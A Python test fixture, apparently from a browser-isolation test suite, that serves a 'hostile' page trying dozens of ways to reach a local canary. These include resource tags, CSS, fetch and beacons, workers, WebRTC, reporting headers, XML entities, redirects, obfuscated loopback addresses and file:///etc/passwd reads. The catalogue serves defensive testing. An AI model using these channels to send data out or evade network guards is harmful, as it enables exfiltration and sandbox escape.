"""A site that tries every way we know to make a browser reach a canary, each on a port of its own.

`CANARY` stands for the host and port of the way, `PORT` for the port alone.
"""

from __future__ import annotations

import asyncio

from aiohttp import web

from tests.security.canary import Canary
from tests.security.hostile_rare import RARE
from tests.security.ways import Way, worker
from tests.site import Asset, Page
from tests.site.page import Handler

LINGER_S = 4.0
"""How long the page goes on after its last script has run; without guards all is tried in half of it."""


def _ice(url: str) -> str:
    server = f"{{urls: '{url}', username: 'u', credential: 'c'}}"
    return (
        f"const p = new RTCPeerConnection({{iceServers: [{server}]}}); p.createDataChannel('x');"
        "p.createOffer().then(o => p.setLocalDescription(o)); window.pcs = (window.pcs || []).concat(p)"
    )


def _candidate(protocol: str) -> str:
    """Two peers of the page itself; one is told that the other listens at the canary."""
    tail = " tcptype passive" if protocol == "tcp" else ""
    line = f"candidate:1 1 {protocol} 2122260223 127.0.0.1 PORT typ host{tail}"
    return (
        "const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel('x');"
        "window.pcs = (window.pcs || []).concat(a, b);"
        "(async () => { await a.setLocalDescription(await a.createOffer());"
        "await b.setRemoteDescription(a.localDescription);"
        "await b.setLocalDescription(await b.createAnswer());"
        "await a.setRemoteDescription(b.localDescription);"
        f"await a.addIceCandidate({{candidate: '{line}', sdpMid: '0', sdpMLineIndex: 0}}) }})()"
    )


def _css(name: str, rule: str, element: str = "<i id={id}>x</i>") -> Way:
    ident = name.replace("-", "_")
    return Way(name, f"<style>{rule.replace('ID', '#' + ident)}</style>{element.replace('{id}', ident)}")


def _address(name: str, host: str) -> Way:
    return Way(name, f'<img src="http://{host}:PORT/">')


MARKUP = (
    Way("img", '<img src="http://CANARY/">'),
    Way("img-lazy", '<img loading=lazy src="http://CANARY/">'),
    Way("img-srcset", '<img srcset="http://CANARY/ 1x">'),
    Way("picture", '<picture><source srcset="http://CANARY/"><img></picture>'),
    Way("img-attribution", '<img src="/pixel" attributionsrc="http://CANARY/">'),
    Way("script", '<script src="http://CANARY/"></script>'),
    Way("script-module", '<script type=module src="http://CANARY/"></script>'),
    Way("script-static-import", '<script type=module>import "http://CANARY/"</script>'),
    Way("stylesheet", '<link rel=stylesheet href="http://CANARY/">'),
    _css("css-import", "@import url(http://CANARY/);"),
    _css("css-background", "ID { background: url(http://CANARY/) }"),
    _css("css-content", "ID::before { content: url(http://CANARY/) }"),
    _css("css-mask", "ID { mask-image: url(http://CANARY/) }"),
    _css("css-list", "ID { list-style-image: url(http://CANARY/) }", "<ul id={id}><li>x</ul>"),
    _css("css-border", "ID { border: 1px solid; border-image: url(http://CANARY/) 1 }"),
    _css("css-filter", "ID { filter: url(http://CANARY/#f) }"),
    _css("css-font", "@font-face { font-family: f1; src: url(http://CANARY/) } ID { font-family: f1 }"),
    Way("iframe", '<iframe src="http://CANARY/"></iframe>'),
    Way("iframe-sandbox", '<iframe sandbox src="http://CANARY/"></iframe>'),
    Way("iframe-srcdoc", '<iframe srcdoc="<img src=http://CANARY/>"></iframe>'),
    Way("iframe-data", '<iframe src="data:text/html,<img src=http://CANARY/>"></iframe>'),
    Way("iframe-javascript", "<iframe src=\"javascript:'<img src=http://CANARY/>'\"></iframe>"),
    Way("iframe-view-source", '<iframe src="view-source:http://CANARY/"></iframe>'),
    Way("frameset", '<frameset><frame src="http://CANARY/"></frameset>', framed=True),
    Way("object", '<object data="http://CANARY/" type="text/html"></object>'),
    Way("embed", '<embed src="http://CANARY/" type="text/html">'),
    Way("embed-pdf", '<embed src="http://CANARY/x.pdf" type="application/pdf">'),
    Way("video", '<video src="http://CANARY/" preload=auto></video>'),
    Way("video-poster", '<video poster="http://CANARY/"></video>'),
    Way("video-source", '<video preload=auto><source src="http://CANARY/"></video>'),
    Way("audio", '<audio src="http://CANARY/" preload=auto></audio>'),
    Way("track", '<video crossorigin><track default kind=subtitles src="http://CANARY/"></video>'),
    Way("input-image", '<input type=image src="http://CANARY/">'),
    Way("table-background", '<table background="http://CANARY/"><tr><td>x</table>'),
    Way("svg-image", '<svg><image href="http://CANARY/"/></svg>'),
    Way("svg-use", '<svg><use href="http://CANARY/#a"/></svg>'),
    Way("svg-filter", '<svg><filter id=fe><feImage href="http://CANARY/"/></filter><g filter="url(#fe)">'
        "<rect width=9 height=9 /></g></svg>"),
    Way("link-prefetch", '<link rel=prefetch href="http://CANARY/">'),
    Way("link-preconnect", '<link rel=preconnect href="http://CANARY/">'),
    Way("link-dns-prefetch", '<link rel=dns-prefetch href="http://CANARY/">'),
    Way("link-preload", '<link rel=preload as=image href="http://CANARY/">'),
    Way("link-modulepreload", '<link rel=modulepreload href="http://CANARY/">'),
    Way("link-prerender", '<link rel=prerender href="http://CANARY/">'),
    Way("link-icon", '<link rel=icon href="http://CANARY/">'),
    Way("link-manifest", '<link rel=manifest href="http://CANARY/">'),
    Way("speculation-rules", '<script type=speculationrules>{"prefetch": [{"source": "list", '
        '"urls": ["http://CANARY/"]}]}</script>'),
    Way("link-header", headers={"Link": "<http://CANARY/>; rel=preload; as=image"}, framed=True),
    Way("meta-refresh", '<meta http-equiv=refresh content="0;url=http://CANARY/">', framed=True),
    Way("refresh-header", headers={"Refresh": "0;url=http://CANARY/"}, framed=True),
    Way("base-href", '<base href="http://CANARY/"><img src="x">', framed=True),
    Way("csp-report", '<img src="http://x.invalid/">', framed=True, headers={
        "Content-Security-Policy": "img-src 'none'; report-uri http://CANARY/"}),
    Way("reporting-api", '<img src="http://x.invalid/">', framed=True, headers={
        "Content-Security-Policy": "img-src 'none'; report-to r", "Reporting-Endpoints": 'r="http://CANARY/"'}),
    Way("network-error-logging", '<img src="/nothing">', framed=True, headers={
        "NEL": '{"report_to": "n", "max_age": 99, "success_fraction": 1.0}',
        "Report-To": '{"group": "n", "max_age": 99, "endpoints": [{"url": "http://CANARY/"}]}'}),
    Way("alt-svc", '<img src="/pixel">', framed=True, headers={"Alt-Svc": 'h3="127.0.0.1:PORT"; ma=9'}),
    Way("xslt", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://CANARY/"?><a/>',
        framed=True, kind="text/xml"),
    Way("xml-entity", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "http://CANARY/">]><a>&x;</a>',
        framed=True, kind="text/xml"),
    Way("svg-document", '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://CANARY/"/></svg>',
        framed=True, kind="image/svg+xml"),
)  # fmt: skip

SCRIPTED = (
    Way("fetch", script="fetch('http://CANARY/')"),
    Way("fetch-post", script="fetch('http://CANARY/', {method: 'POST', mode: 'no-cors', body: 'x'})"),
    Way("fetch-preflight", script="fetch('http://CANARY/', {method: 'PUT', headers: {'X-A': '1'}})"),
    Way("fetch-keepalive", script="fetch('http://CANARY/', {keepalive: true, mode: 'no-cors'})"),
    Way("fetch-later", script="fetchLater('http://CANARY/', {activateAfter: 0})", framed=True),
    Way("xhr", script="const x = new XMLHttpRequest(); x.open('GET', 'http://CANARY/'); x.send()"),
    Way("xhr-sync", script="const x = new XMLHttpRequest();x.open('GET', 'http://CANARY/', false);x.send()"),
    Way("beacon", script="navigator.sendBeacon('http://CANARY/', 'x')"),
    Way("event-source", script="new EventSource('http://CANARY/')"),
    Way("websocket", script="new WebSocket('ws://CANARY/')"),
    Way("websocket-tls", script="new WebSocket('wss://CANARY/')"),
    Way("https", script="fetch('https://CANARY/', {mode: 'no-cors'})"),
    Way("image-object", script="new Image().src = 'http://CANARY/'"),
    Way("audio-object", script="const a = new Audio('http://CANARY/'); a.preload = 'auto'; a.load()"),
    Way("font-object", script="new FontFace('f2', 'url(http://CANARY/)').load()"),
    Way("import", script="import('http://CANARY/')"),
    Way("document-write", script="document.write('<img src=\"http://CANARY/\">')"),
    Way("shadow-root", '<div id=sr></div>',
        "sr.attachShadow({mode: 'closed'}).innerHTML = '<link rel=stylesheet href=\"http://CANARY/\">'"),
    Way("audio-worklet", script="new OfflineAudioContext(1, 9, 9000).audioWorklet.addModule('http://CANARY/')"),
    Way("wasm", script="WebAssembly.compileStreaming(fetch('http://CANARY/'))"),
    Way("worker-fetch", script=worker("fetch('http://CANARY/')")),
    Way("worker-import-scripts", script=worker("importScripts('http://CANARY/')")),
    Way("worker-websocket", script=worker("new WebSocket('ws://CANARY/')")),
    Way("worker-nested", script=worker(worker("fetch('http://CANARY/')"))),
    Way("shared-worker", script=worker("fetch('http://CANARY/')", "SharedWorker")),
    Way("service-worker", script="navigator.serviceWorker.register('/service-worker.js?PORT')"),
    Way("blob-frame", '<iframe id=bf></iframe>',
        "bf.src = URL.createObjectURL(new Blob(['<img src=\"http://CANARY/\">'], {type: 'text/html'}))"),
    Way("location", script="location = 'http://CANARY/'", framed=True),
    Way("window-open", script="window.open('http://CANARY/')"),
    Way("form-post", '<form id=f method=post action="http://CANARY/"><input name=a></form>', "f.submit()",
        framed=True),
    Way("form-target", '<iframe name=ft></iframe><form id=fg target=ft action="http://CANARY/"></form>',
        "fg.submit()"),
    Way("ping", '<a id=ap href="#here" ping="http://CANARY/">x</a>', "ap.click()", framed=True),
    Way("unload-beacon", script="onpagehide = () => navigator.sendBeacon('http://CANARY/', 'x');"
        "setTimeout(() => location = 'about:blank', 100)", framed=True),
    Way("stun-udp", script=_ice("stun:CANARY")),
    Way("stun-localhost", script=_ice("stun:localhost:PORT")),
    Way("turn-udp", script=_ice("turn:CANARY?transport=udp")),
    Way("turn-tcp", script=_ice("turn:CANARY?transport=tcp")),
    Way("turns-tcp", script=_ice("turns:CANARY?transport=tcp")),
    Way("ice-udp", script=_candidate("udp")),
    Way("ice-tcp", script=_candidate("tcp")),
    Way("web-transport", script="new WebTransport('https://CANARY/')"),
    Way("web-transport-name", script="new WebTransport('https://localhost:PORT/')"),
    Way("web-transport-hash", script="new WebTransport('https://CANARY/', {serverCertificateHashes: "
        "[{algorithm: 'sha-256', value: new Uint8Array(32)}]})"),
)  # fmt: skip

REDIRECTED = (
    Way("redirect-img", '<img src="/redirect?http://CANARY/">'),
    Way("redirect-iframe", '<iframe src="/redirect?http://CANARY/"></iframe>'),
    Way("redirect-script", '<script src="/redirect?http://CANARY/"></script>'),
    Way("redirect-fetch", script="fetch('/redirect?http://CANARY/')"),
    Way("redirect-fetch-307", script="fetch('/redirect?http://CANARY/', {method: 'POST', body: 'x'})"),
    Way("redirect-worker", script=worker("fetch(new URL('/redirect?http://CANARY/', 'ORIGIN'))")),
    Way("redirect-event-source", script="new EventSource('/redirect?http://CANARY/')"),
)

ADDRESSES = (
    _address("localhost", "localhost"),
    _address("localhost-dot", "localhost."),
    _address("localhost-zone", "canary.localhost"),
    _address("ipv6", "[::1]"),
    _address("ipv6-mapped", "[::ffff:127.0.0.1]"),
    _address("unspecified", "0.0.0.0"),
    _address("decimal", "2130706433"),
    _address("hex", "0x7f.1"),
    _address("octal", "0177.0.0.1"),
    _address("short", "127.1"),
    _address("circled", "①②⑦.0.0.1"),
    _address("fullwidth", "\N{FULLWIDTH DIGIT ONE}27.0.0.1"),
    _address("ideographic-dot", "127。0。0。1"),
    _address("escaped", "%31%32%37.0.0.1"),
    _address("user", "example.com@127.0.0.1"),
    Way("backslashes", '<img src="http:\\\\CANARY\\">'),
    Way("scheme-relative", '<img src="//CANARY/">'),
)

WAYS = (*MARKUP, *SCRIPTED, *REDIRECTED, *ADDRESSES, *RARE)


def entries(canary: Canary, ways: tuple[Way, ...] = WAYS) -> tuple[Page | Asset, ...]:
    """The site: `/hostile` tries all `ways` at once, `/frame/…` has those that need a document."""

    async def page(request: web.Request) -> web.Response:
        return web.Response(text=_page(canary, ways, str(request.url.origin())), content_type="text/html")

    frames = [Asset(f"/frame/{way.name}", _frame(canary, way)) for way in ways if way.framed]
    return (
        Page("/hostile", page),
        Asset("/pixel", "<svg/>"),
        Asset("/slow", _slow),
        Asset("/redirect", _redirect, "*"),
        Asset("/service-worker.js", _service_worker),
        *frames,
    )


def _page(canary: Canary, ways: tuple[Way, ...], origin: str) -> str:
    parts = []
    for way in ways:
        text = f'<iframe src="/frame/{way.name}"></iframe>' if way.framed else way.document
        parts.append(canary.fill(way.name, text).replace("ORIGIN", origin))
    # The files stand beside the canary: nobody must read them either.
    files = '<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/passwd">'
    text = "<p>A page of good looks and bad intentions, with some words to be read.</p>"
    body = "\n".join(f"<div>{part}</div>" for part in parts)
    over = "fetch('/slow').then(() => document.body.append(Object.assign(new Image(), {id: 'over'})))"
    return f"<!doctype html><title>Hostile</title><main>{text}</main>{body}{files}<script>{over}</script>"


def _frame(canary: Canary, way: Way) -> Handler:
    headers = {name: canary.fill(way.name, value) for name, value in way.headers.items()}

    async def serve(_: web.Request) -> web.Response:
        text = canary.fill(way.name, way.document or "<p>x")
        return web.Response(text=text, headers=headers, content_type=way.kind)

    return serve


async def _slow(_: web.Request) -> web.Response:
    await asyncio.sleep(LINGER_S)
    return web.Response()


async def _redirect(request: web.Request) -> web.Response:
    headers = {"Location": request.query_string, "Access-Control-Allow-Origin": "*"}
    return web.Response(status=307, headers=headers)


async def _service_worker(request: web.Request) -> web.Response:
    code = f"fetch('http://127.0.0.1:{request.query_string}/', {{mode: 'no-cors'}})"
    return web.Response(text=code, content_type="text/javascript")
